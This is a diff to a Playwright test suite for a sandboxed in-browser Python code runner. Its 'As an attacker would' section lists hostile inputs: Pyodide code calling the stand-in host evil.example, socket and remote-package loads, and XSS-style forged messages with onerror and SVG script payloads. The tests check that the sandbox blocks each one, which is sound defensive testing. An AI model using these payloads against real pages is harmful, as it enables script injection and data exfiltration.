@@ -3,7 +3,9 @@
 import json
 import subprocess
 import sys
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import nbformat
 import pytest
@@ -11,13 +13,13 @@ from axe_playwright_python.sync_playwright import Axe
 
 from kb.snippets.compare import compare
 from kb.snippets.find import find
-from tests.browser.conftest import build, watch
+from tests.browser.conftest import build, until, watch
 from tests.catalogs import ROOT, TOY
 
 PLACE = "techniques/toy-pruning/"
 RUN, STOP, EDIT, RESET = (f"kb-run button.kb-{name}" for name in ("run", "stop", "edit", "reset"))
 AREA, OUTPUT, STATUS = ".kb-editor textarea", ".kb-shown .kb-output code", "kb-run [role=status]"
-LOADS, RUNS = 90_000, 60_000
+LOADS = 90_000
 SNIPPETS = find(ROOT / "catalog")
 
 
@@ -71,6 +73,11 @@ def started(page):
     page.wait_for_selector("kb-run[data-state=running]", timeout=LOADS)
 
 
+def workers(page):
+    page.wait_for_timeout(500)
+    return len(page.workers)
+
+
 RECORDED = (TOY / PLACE / "output.txt").read_text(encoding="utf-8").strip("\n")
 
 
@@ -82,7 +89,7 @@ def test_before_anything_is_pressed_all_is_there_and_nothing_is_loaded(page, toy
     page.goto(toy_site + PLACE)
     page.wait_for_load_state("networkidle")
     assert output(page) == RECORDED
-    assert page.evaluate("document.querySelector('.kb-figure img').naturalWidth") == 480
+    assert page.evaluate("document.querySelector('.kb-figure img').naturalWidth") > 0
     assert page.inner_text(RUN) == "Run 运行 11 MB, once 仅首次"
     assert page.locator(STOP).is_disabled() and page.inner_text(STATUS) == ""
     assert not any("/runtime/" in url or "worker" in url or "lab.zip" in url for url in asked)
@@ -96,7 +103,7 @@ def test_run_prints_what_is_recorded_draws_and_tells_the_time(fresh):
     assert "as recorded" in fresh.inner_text(STATUS) and "与记录一致" in fresh.inner_text(STATUS)
     assert fresh.get_attribute(".kb-figure img", "src").startswith("blob:") and before == "figure.svg"
     assert fresh.get_attribute(".kb-figure img", "alt").startswith("Small toys need little room. With three of ten toys")
-    assert fresh.evaluate("document.querySelector('.kb-figure img').decode().then(() => document.querySelector('.kb-figure img').naturalWidth)") == 480
+    assert fresh.evaluate("document.querySelector('.kb-figure img').decode().then(() => document.querySelector('.kb-figure img').naturalWidth)") > 0
     assert fresh.inner_text(".kb-time").endswith(" s") and "output of your run" in fresh.inner_text(".kb-shown .kb-caption")
     assert fresh.inner_text(RUN) == "Run 运行"
     assert fresh.troubles == []
@@ -106,7 +113,7 @@ def test_edited_code_runs_and_what_differs_is_said(fresh):
     assert run(fresh, "print('toys 7')") == "other"
     assert output(fresh) == "toys 7"
     fresh.click(".kb-differences summary")
-    assert fresh.locator(".kb-differences li").all_inner_texts()[0] == "line 1: `toys 7` found, `toys     room needed` expected"
+    assert fresh.locator(".kb-differences li").all_text_contents()[0] == "line 1: `toys 7` found, `toys     room needed` expected"
 
 
 def test_reset_brings_back_code_output_and_figure(fresh):
@@ -122,7 +129,7 @@ def test_reset_brings_back_code_output_and_figure(fresh):
 def test_stop_ends_an_endless_loop_and_the_next_run_works(fresh):
     type_in(fresh, "print('on', flush=True)\nwhile True: pass")
     fresh.click(RUN)
-    fresh.wait_for_function(f"document.querySelector('{OUTPUT}').textContent === 'on\\n'", timeout=LOADS)
+    until(fresh, f"() => document.querySelector('{OUTPUT}').textContent === 'on\\n'")
     assert fresh.locator(RUN).is_disabled()
     begun = time.monotonic()
     fresh.click(STOP)
@@ -135,7 +142,7 @@ def test_stop_while_python_loads(page, toy_site, runtime):
     page.click(RUN)
     assert state(page) == "loading"
     page.click(STOP)
-    assert state(page) == "stopped" and len(page.workers) == 0
+    assert state(page) == "stopped" and workers(page) == 0
     assert run(page) == "same"
 
 
@@ -144,7 +151,7 @@ def test_lines_appear_while_it_runs(fresh):
     fresh.click(RUN)
     seen = []
     for count in range(1, 4):
-        fresh.wait_for_function(f"document.querySelector('{OUTPUT}').textContent.split('\\n').length > {count}", timeout=LOADS)
+        until(fresh, f"() => document.querySelector('{OUTPUT}').textContent.split('\\n').length > {count}")
         seen.append((output(fresh).count("line"), state(fresh)))
     assert seen == [(1, "running"), (2, "running"), (3, "running")]
     settled(fresh)
@@ -198,7 +205,7 @@ def test_a_page_that_is_swapped_in_without_loading_works_and_the_old_run_ends(pa
         const page = new DOMParser().parseFromString(await (await fetch(location.href)).text(), "text/html");
         document.querySelector("article").replaceWith(page.querySelector("article"));
     }""")
-    assert len(page.workers) == 0
+    assert workers(page) == 0
     assert run(page) == "same" and page.troubles == []
 
 
@@ -210,7 +217,7 @@ def test_ctrl_enter_runs_and_escape_leaves(fresh):
     assert settled(fresh) == "other" and output(fresh) == "keys"
     fresh.focus(AREA)
     fresh.keyboard.press("Escape")
-    assert fresh.evaluate("document.activeElement.className") == "kb-edit"
+    assert fresh.evaluate("document.activeElement.classList.contains('kb-edit')")
 
 
 KEYS = {
@@ -243,78 +250,119 @@ def test_the_editor_holds_the_whole_code_and_numbers_its_lines(fresh):
 # As an attacker would
 
 HOSTILE = {
-    "the page": "import js\njs.document.title = 'pwned'",
-    "the network": "import js\njs.fetch('https://evil.example/x')",
-    "the network by Pyodide": "from pyodide.http import open_url\nopen_url('https://evil.example/x')",
-    "a socket": "import socket\nsocket.create_connection(('203.0.113.1', 80), 2)",
-    "packages": "import asyncio, pyodide_js\npyodide_js.loadPackage('https://evil.example/x.whl').syncify()",
-    "JavaScript": "from pyodide.code import run_js\nrun_js('postMessage(1)')",
-    "a function made of text": "import pyodide_js\nf = pyodide_js.runPython.constructor('return this')\nf().postMessage(1)",
-    "messages": "import js\njs.postMessage('{}')",
-    "a worker of its own": "import js\njs.Worker.new('x')",
-    "storage": "import js\njs.indexedDB.open('x')",
+    "the page": ("import js\njs.document.title = 'pwned'", "AttributeError: document"),
+    "the network": ("import js\njs.fetch('https://evil.example/x')", "AttributeError: fetch"),
+    "the network by Pyodide": ("from pyodide.http import open_url\nopen_url('https://evil.example/x')", "NameError: name 'XMLHttpRequest' is not defined"),
+    "a socket": ("import socket\nsocket.create_connection(('203.0.113.1', 80), 2)", "OSError: "),
+    "JavaScript": ("from pyodide.code import run_js\nrun_js('postMessage(1)')", "ImportError: cannot import name 'eval' from 'js'"),
+    "a function made of text": ("import pyodide_js\npyodide_js.runPython.constructor('return this')()", "pyodide.ffi.JsException: EvalError: "),
+    "messages": ("import js\njs.postMessage('{}')", "AttributeError: postMessage"),
+    "a worker of its own": ("import js\njs.Worker.new('x')", "AttributeError: Worker"),
+    "storage": ("import js\njs.indexedDB.open('x')", "AttributeError: indexedDB"),
 }
 
 
-@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
-def test_a_hostile_edit_cannot_reach(fresh, code):
-    before = fresh.content()
+@pytest.mark.parametrize(("code", "said"), HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_hostile_edit_cannot_reach(fresh, code, said):
     assert run(fresh, code) == "failed"
-    assert fresh.title() != "pwned" and len(before) > 1000
-    assert [trouble for trouble in fresh.troubles if not trouble.startswith("console:")] == []
-    assert fresh.evaluate("localStorage.length + document.cookie.length") <= 2
+    assert output(fresh).splitlines()[-1].startswith(said)
+    assert fresh.title() != "pwned" and fresh.troubles == []
 
 
-def test_whatever_an_edit_does_to_itself_run_works_again(fresh):
+@pytest.fixture
+def stranger():
+    """Another origin on loopback that would hand out scripts to everybody; gives its address and the paths that were asked for."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.end_headers()
+            self.wfile.write(b"export default 1;")
+
+        def log_message(self, *words):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/", asked
+    server.shutdown()
+    server.server_close()
+
+
+def test_packages_of_another_origin_are_not_even_asked_for(fresh, stranger):
+    address, asked = stranger
+    run(fresh, f"import pyodide_js\npyodide_js.loadPackage('{address}evil-1-py3-none-any.whl')")
+    fresh.wait_for_timeout(500)
+    assert asked == []
+
+
+def test_the_policy_holds_in_the_worker_even_for_its_own_scripts(fresh, stranger):
+    """What the worker could do if all that was taken from it came back: nothing beyond our own origin, nothing made of text."""
+    address, asked = stranger
+    run(fresh, "print(1)")
+    worker = fresh.workers[0]
+    names = ["fetch", "XMLHttpRequest", "WebSocket", "indexedDB", "Worker", "postMessage", "navigator"]
+    assert worker.evaluate("names => names.map(name => typeof self[name])", names) == ["undefined"] * len(names)
+    assert worker.evaluate("address => import(address).then(() => 'loaded', () => 'refused')", address + "x.mjs") == "refused"
+    worker.evaluate("() => void setTimeout('self.reached = 1', 0)")
+    fresh.wait_for_timeout(300)
+    assert worker.evaluate("typeof self.reached") == "undefined"
+    assert asked == []
+
+
+def test_a_bare_worker_of_the_page_inherits_the_policy(page, toy_site, stranger):
+    address, asked = stranger
+    page.goto(toy_site)
+    page.evaluate("() => void new Worker(URL.createObjectURL(new Blob(['self.here = 1'], {type: 'text/javascript'})), {type: 'module'})")
+    page.wait_for_timeout(500)
+    assert page.workers[0].evaluate("address => fetch(address).then(() => 'loaded', () => 'refused')", address + "x") == "refused"
+    assert asked == []
+
+
+def test_an_edit_that_breaks_its_own_python_is_stopped_and_run_works_again(fresh):
     run(fresh, "import sys, builtins\nsys.modules.clear()\nbuiltins.__dict__.clear()")
-    fresh.click(STOP) if fresh.locator(STOP).is_enabled() else None
-    for _ in range(2):
-        if run(fresh, "print('fine')") == "other":
-            break
-    assert output(fresh) == "fine"
+    assert state(fresh) in ("failed", "crashed")
+    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
 
 
 FORGED = {
-    "no object": "null",
-    "no type": "{run: RUN}",
-    "markup as text": "{run: RUN, type: 'text', stream: 'out', text: '<img src=x onerror=document.title=1>'}",
-    "no text": "{run: RUN, type: 'text', text: {toString: 1}}",
-    "a picture with a script": "{run: RUN, type: 'figure', svg: '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title=1\"><script>document.title=1</script></svg>'}",
-    "no picture": "{run: RUN, type: 'figure', svg: 5}",
-    "wrong numbers": "{run: RUN, type: 'done', seconds: 'x', line: -1, problem: '<b>x</b>'}",
-    "wrong differences": "{run: RUN, type: 'done', seconds: 1, differences: [{}, '<b>x</b>']}",
-    "another run": "{run: RUN + 7, type: 'done', seconds: 1}",
-    "a long line": "{run: RUN, type: 'text', text: 'x'.repeat(5000000)}",
+    "no type": "{}",
+    "markup as text": "{type: 'text', stream: 'out', text: '<img src=x onerror=document.title=1>'}",
+    "no text": "{type: 'text', text: {toString: 1}}",
+    "a picture with a script": "{type: 'figure', svg: '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title=1\"><script>document.title=1</script></svg>'}",
+    "no picture": "{type: 'figure', svg: 5}",
+    "wrong numbers": "{type: 'done', seconds: 'x', line: -1, problem: '<b>x</b>'}",
+    "wrong differences": "{type: 'done', seconds: 1, differences: [{}, '<b>x</b>']}",
+    "an unknown type": "{type: 'navigate', url: 'https://evil.example/'}",
+    "a long line": "{type: 'text', text: 'x'.repeat(5000000)}",
 }
 
 
 @pytest.mark.parametrize("message", FORGED.values(), ids=FORGED.keys())
 def test_forged_messages_do_no_harm(fresh, message):
-    """They are put where the worker's own would come; nothing in the worker could send them itself."""
+    """They are put where the worker's own come in; nothing that runs in the worker could send them (see above)."""
     title = fresh.title()
-    fresh.evaluate("""message => {
-        window.sent ??= MessagePort;
-        const box = document.querySelector("kb-run");
-        const make = Function.prototype.constructor;
-        window.forged = message;
-    }""", message)
     type_in(fresh, "import time\ntime.sleep(0.5)\nprint('end')")
     fresh.click(RUN)
     started(fresh)
-    forge = message.replace("RUN", "0")
-    fresh.evaluate(f"document.querySelector('kb-run').hear(({forge}) ?? {{}})")
+    fresh.evaluate(f"document.querySelector('kb-run').hear({message})")
     fresh.wait_for_timeout(200)
     assert fresh.title() == title and fresh.locator(".kb-shown b, .kb-output img").count() == 0
-    assert len(output(fresh)) <= 100_001
+    assert len(output(fresh)) <= 100_000
     if fresh.locator(STOP).is_enabled():
         fresh.click(STOP)
     assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
+    assert fresh.troubles == []
 
 
 def test_code_in_the_address_is_not_run(page, toy_site, runtime):
     page.goto(f"{toy_site}{PLACE}?code=print(1)&run=1#code=print(1)")
     page.wait_for_load_state("networkidle")
-    assert len(page.workers) == 0 and "print(1)" not in page.inner_text(".kb-code")
+    assert workers(page) == 0 and "print(1)" not in page.inner_text(".kb-code")
     assert page.locator(AREA).count() == 0
 
 
@@ -331,8 +379,9 @@ def test_memory_without_end_is_an_error_not_a_crash_of_the_page(fresh):
     assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
 
 
-def test_recursion_without_end_is_survived(fresh):
-    assert run(fresh, "import sys\nsys.setrecursionlimit(10**7)\ndef f(): f()\nf()") in ("failed", "crashed")
+@pytest.mark.parametrize("limit", [1_000, 100_000])
+def test_recursion_without_end_is_survived(fresh, limit):
+    assert run(fresh, f"import sys\nsys.setrecursionlimit({limit})\ndef f(): f()\nf()") in ("failed", "crashed")
     assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
 
 
@@ -343,14 +392,6 @@ def test_every_page_has_the_policy_and_the_worker_inherits_it(page, toy_site, pl
     assert "default-src 'none'" in found and "'unsafe-eval'" not in found and "'unsafe-inline'" not in found and "http" not in found.replace("http-equiv", "")
     page.evaluate("() => { const script = document.createElement('script'); script.textContent = 'document.title = \"pwned\"'; document.body.append(script); }")
     assert page.title() != "pwned"
-
-
-def test_no_script_in_the_worker_reaches_another_origin_or_evaluates(fresh):
-    run(fresh, "print(1)")
-    worker = fresh.workers[0]
-    assert worker.evaluate("['fetch', 'XMLHttpRequest', 'WebSocket', 'indexedDB', 'Worker', 'postMessage'].map(name => typeof self[name])") == ["undefined"] * 6
-    assert worker.evaluate("import('https://evil.example/x.mjs').then(() => 'loaded', error => error.name)") == "TypeError"
-    assert [trouble for trouble in fresh.troubles if not trouble.startswith("console:")] == []
 
 
 # Where it cannot run
@@ -402,6 +443,8 @@ def test_axe_finds_nothing_before_while_editing_and_after_an_error(fresh, width,
     found = []
     for act in (lambda: None, lambda: run(fresh), lambda: run(fresh, "print(1)\n1 / 0"), lambda: fresh.click(RESET)):
         act()
+        fresh.evaluate("scrollTo(0, 0)")
+        fresh.wait_for_timeout(600)
         found += [(one["id"], [node["target"] for node in one["nodes"]][:3]) for one in Axe().run(fresh).response["violations"]]
         assert fresh.evaluate("document.documentElement.scrollWidth") <= width
     fresh.set_viewport_size({"width": 1280, "height": 900})
@@ -426,7 +469,7 @@ def test_topic_cards_show_the_figures(page, toy_site):
     assert image.count() == 1 and image.get_attribute("loading") == "lazy" and image.get_attribute("alt").startswith("Small toys need little room")
     image.scroll_into_view_if_needed()
     image.evaluate("image => image.decode()")
-    assert image.evaluate("image => image.naturalWidth") == 480
+    assert image.evaluate("image => image.naturalWidth") > 0
 
 
 def test_with_todays_libraries_code_and_output_are_shown(page, toy_site):
